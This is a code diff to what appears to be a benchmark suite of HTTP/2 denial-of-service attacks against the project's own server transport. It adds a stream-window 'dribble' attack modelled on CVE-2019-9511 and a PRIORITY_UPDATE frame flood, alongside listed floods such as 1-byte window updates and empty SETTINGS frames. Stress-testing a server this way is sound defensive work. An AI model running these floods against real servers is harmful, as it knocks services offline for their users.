@@ -2,7 +2,18 @@
 
 from functools import partial
 
-from benchmarks.attacks.link import CLASSIFY, Attack, Link, Pieces, cancel, data, headers, priority, request
+from benchmarks.attacks.link import (
+    CLASSIFY,
+    WAIT_SECONDS,
+    Attack,
+    Link,
+    Pieces,
+    cancel,
+    data,
+    headers,
+    priority,
+    request,
+)
 from serving.transport import frames
 
 _FRAMES_A_PIECE = 1000
@@ -11,6 +22,8 @@ _BYTES_OF_AN_ANSWER = 500
 _DRIBBLE_STREAMS = 64
 _PADDING_BYTES = 255
 _OPEN_CALLS = 1000
+_UNREAD_ANSWERS = 250
+_PRIORITY_UPDATE = 0x10  # of RFC 9218, section 7.1
 _BYTES_OF_A_HALF_CALL = 400
 
 
@@ -53,6 +66,21 @@ def _windows_of_open_calls(link: Link) -> Pieces:
         yield b"".join(settings) * _DATA_FRAMES_A_PIECE
 
 
+def _windows_of_unread_answers(link: Link) -> Pieces:
+    """Open the windows of many answers together, by one byte at a time."""
+    yield from link.ready()
+    message = request()
+    while True:
+        streams = [link.next_stream() for _ in range(min(_UNREAD_ANSWERS, link.max_streams))]
+        for stream in streams:
+            yield from link.room(len(message))
+            yield headers(stream, CLASSIFY) + data(stream, message)
+        yield WAIT_SECONDS
+        for size in range(_BYTES_OF_AN_ANSWER):
+            yield frames.settings({frames.INITIAL_WINDOW_SIZE: size})
+        yield b"".join(cancel(stream) for stream in streams) + frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
+
+
 def _dribble(link: Link) -> Pieces:
     """Open the windows of many answers by one byte at a time (CVE-2019-9511)."""
     yield from link.ready()
@@ -72,6 +100,8 @@ FLOODS = (
     Attack("priority flood", partial(_frames, frame=priority(1))),
     Attack("empty SETTINGS", partial(_frames, frame=frames.settings({}))),
     Attack("windows of open calls", _windows_of_open_calls),
+    Attack("windows of unread answers", _windows_of_unread_answers, settings={frames.INITIAL_WINDOW_SIZE: 0}),
+    Attack("priority updates", partial(_frames, frame=frames.frame(_PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1"))),
     Attack("window updates of 1 byte", partial(_frames, frame=frames.window_update(0, 1))),
     Attack("stream window updates of 1 byte", partial(_frames, frame=frames.window_update(1, 1))),
     Attack("unknown frames", partial(_frames, frame=frames.frame(0x2A, 0, 0))),
